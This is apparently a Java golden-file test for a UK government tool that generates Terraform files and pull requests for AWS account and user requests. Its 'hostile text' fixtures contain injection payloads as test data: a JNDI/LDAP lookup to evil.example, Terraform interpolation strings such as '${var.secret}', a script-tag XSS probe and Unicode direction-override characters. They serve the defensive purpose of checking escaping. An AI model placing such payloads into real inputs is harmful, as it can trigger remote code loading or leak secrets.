package uk.gov.gds.awsam.terraform.domain;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import uk.gov.gds.awsam.terraform.messaging.GeneratorEvents;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import uk.gov.gds.awsam.events.AccountRequest;
import uk.gov.gds.awsam.events.AlertPriority;
import uk.gov.gds.awsam.events.FileChange;
import uk.gov.gds.awsam.events.RequestSubmitted;
import uk.gov.gds.awsam.events.SecurityProfile;
import uk.gov.gds.awsam.events.ServiceInfo;
import uk.gov.gds.awsam.events.Team;
import uk.gov.gds.awsam.events.TeamLead;
import uk.gov.gds.awsam.events.TerraformGenerated;

/**
 * The exact output for each kind of request, held in {@code src/test/resources/golden/<case>/}: the
 * files as they will be committed ({@code files/<path>}) and the pull request around them
 * ({@code pull-request.txt}). Every file is also checked against Terraform's JSON syntax rules.
 *
 * <p>After an intended change of output, rewrite them with
 * {@code ./mvnw -pl terraform-generator -am test -DskipFoundationTests -Dtest=GoldenFilesTest -Dgolden.update=true
 * -Dsurefire.failIfNoSpecifiedTests=false} and review the diff.
 */
class GoldenFilesTest {

    private static final Path GOLDEN = Path.of("src/test/resources/golden");
    private static final boolean UPDATE = Boolean.getBoolean("golden.update");
    private static final String D = Requests.DOMAIN;

    static Stream<Arguments> cases() {
        Map<String, RequestSubmitted> cases = new LinkedHashMap<>();
        cases.put("new-account", Requests.newAccount("new-account", Requests.account("pay-staging").build()));
        // 50 characters, 5 words: the longest name; the root email and the branch slug are shortened.
        cases.put("new-account-longest-name", Requests.newAccount("new-account-longest-name",
                Requests.account("digital-identity-verification-platform-integration").build()));
        // 16 characters: the longest name whose root email is the whole name, exactly 64 characters.
        cases.put("new-account-name-fits-root-email", Requests.newAccount("new-account-name-fits-root-email",
                Requests.account("payments-staging").build()));
        // 17 characters: one too many, so the root email is shortened, and still 64 characters.
        cases.put("new-account-name-one-over-root-email", Requests.newAccount("new-account-name-one-over-root-email",
                Requests.account("payment-processor").build()));
        cases.put("new-account-one-letter-name", Requests.newAccount("new-account-one-letter-name", Requests.account("a").build()));
        cases.put("new-account-hostile-text", Requests.newAccount("new-account-hostile-text", hostile()));
        cases.put("new-account-many-admins", Requests.newAccount("new-account-many-admins",
                Requests.account("shared-analytics").setAdminUserEmails(manyAdmins()).build()));
        cases.put("user-access-one", Requests.userAccess("user-access-one", "new.starter@" + D));
        cases.put("user-access-many", Requests.userAccess("user-access-many", people()));
        cases.put("user-removal-one", Requests.userRemoval("user-removal-one", "leaver@" + D));
        cases.put("user-removal-many", Requests.userRemoval("user-removal-many", people()));
        cases.put("account-closure", Requests.closure("account-closure", "123456789012", "pay-staging",
                "The service moved to the shared platform"));
        // A name from before the naming rules (any printable ASCII AWS allows), and the longest reason AWS allows in a tag value.
        cases.put("account-closure-hostile-text", Requests.closure("account-closure-hostile-text", "000000000001",
                "Old \"Pay\" ${var.x} %{if} `ops` [x](y) @all \\", "Décommissioné 日本語 " + "long ".repeat(47) + "end"));
        return cases.entrySet().stream().map(c -> Arguments.of(c.getKey(), c.getValue()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void theOutputIsExactlyTheGoldenFiles(String name, RequestSubmitted request) throws IOException {
        TerraformGenerated generated = GeneratorEvents.generate(new TerraformGenerator(Requests.SETTINGS), request, Requests.GENERATED_AT);

        for (FileChange change : generated.getChanges()) {
            if (change.getContent() != null) {
                TerraformJsonValidator.assertValid(change.getPath(), change.getContent());
            }
        }
        Path dir = GOLDEN.resolve(name);
        Map<String, String> expected = new LinkedHashMap<>();
        expected.put("pull-request.txt", pullRequest(generated));
        for (FileChange change : generated.getChanges()) {
            if (change.getContent() != null) {
                expected.put("files/" + change.getPath(), change.getContent());
            }
        }
        if (UPDATE) {
            write(dir, expected);
        }
        assertThat(goldenFiles(dir)).as("golden files of %s", name).containsExactlyInAnyOrderElementsOf(expected.keySet());
        for (Map.Entry<String, String> file : expected.entrySet()) {
            assertThat(Files.readString(dir.resolve(file.getKey()), StandardCharsets.UTF_8))
                    .as("%s/%s", name, file.getKey()).isEqualTo(file.getValue());
        }
    }

    /** Every field of the pull request but the files, in one reviewable text. */
    private static String pullRequest(TerraformGenerated generated) {
        StringBuilder text = new StringBuilder();
        text.append("event id: ").append(generated.getEventId()).append('\n');
        text.append("kind: ").append(generated.getKind()).append('\n');
        text.append("subjects: ").append(String.join(", ", generated.getSubjects())).append('\n');
        text.append("requester: ").append(generated.getRequesterEmail()).append('\n');
        text.append("repository: ").append(generated.getRepository()).append('\n');
        text.append("base branch: ").append(generated.getBaseBranch()).append('\n');
        text.append("branch: ").append(generated.getBranch()).append('\n');
        text.append("changes:\n");
        generated.getChanges().forEach(change -> text.append("  ").append(change.getPath()).append(' ')
                .append(change.getContent() == null ? "deleted" : "sha256=" + change.getSha256()).append('\n'));
        text.append("\n=== title\n").append(generated.getPrTitle()).append('\n');
        text.append("\n=== commit message\n").append(generated.getCommitMessage());
        text.append("\n=== body\n").append(generated.getPrBody());
        return text.toString();
    }

    static AccountRequest hostile() {
        String description = "He said \"ship it\" ${jndi:ldap://evil.example/a} %{ for x in var.y }boom%{ endfor } $${literal}\n"
                + "second line\ttab back\\slash <script>alert(1)</script> **bold** [link](https://evil.example) @everyone :smile: "
                + "café naïve 日本語 😀 e\u0301 \u202Eesrever\u200B zero\u00A0width\u2028sep " + "long ".repeat(60);
        return Requests.account("hostile-text")
                .setDescription(description)
                .setOrganisation("%{if true}GDS%{endif}")
                .setCostCentre(null)
                .setTeam(Team.newBuilder().setName("O'Brien & Sons | \"Ops\" `team`").setEmail("ops@" + D)
                        .setLead(TeamLead.newBuilder().setName("Zoë Ångström-O'Connor").setEmail(null).setPhone("(020) 7946-0000")
                                .setRole("   ").build())
                        .build())
                .setService(ServiceInfo.newBuilder().setName("${var.secret}").setOutOfHoursSupport(false)
                        .setOutOfHoursPhone(null).setOutOfHoursEmail(null).build())
                .setSecurity(SecurityProfile.newBuilder().setAlertPriority(AlertPriority.P1).setCriticalResources("\n\t  ")
                        .setHoldsPii(true).setHoldsPciData(false).build())
                .build();
    }

    private static List<String> manyAdmins() {
        List<String> admins = new ArrayList<>();
        IntStream.rangeClosed(1, 40).forEach(i -> admins.add(String.format("admin.%02d@%s", i, D)));
        admins.add("ADMIN.07@" + D.toUpperCase());
        admins.add(longestEmail("trusted.admin"));
        admins.add("admin+aws@" + D);
        return admins;
    }

    private static String[] people() {
        return new String[] {"Alice.Smith@" + D.toUpperCase(), "bob+aws@" + D, "a.b@" + D, "a_b@" + D, "alice.smith@" + D,
            longestEmail("new.starter")};
    }

    /** An email of exactly 64 characters, the most an IAM user name can have. */
    static String longestEmail(String start) {
        String local = (start + ".abcdefghijklmnopqrstuvwxyz0123456789").substring(0, 64 - 1 - D.length());
        return local + "@" + D;
    }

    private static List<String> goldenFiles(Path dir) throws IOException {
        if (!Files.isDirectory(dir)) {
            return List.of();
        }
        try (Stream<Path> files = Files.walk(dir)) {
            return files.filter(Files::isRegularFile).map(f -> dir.relativize(f).toString().replace('\\', '/')).toList();
        }
    }

    private static void write(Path dir, Map<String, String> files) throws IOException {
        if (Files.isDirectory(dir)) {
            try (Stream<Path> old = Files.walk(dir)) {
                for (Path f : old.sorted(java.util.Comparator.reverseOrder()).toList()) {
                    Files.delete(f);
                }
            }
        }
        for (Map.Entry<String, String> file : files.entrySet()) {
            Path target = dir.resolve(file.getKey());
            Files.createDirectories(target.getParent());
            Files.writeString(target, file.getValue(), StandardCharsets.UTF_8);
        }
    }
}
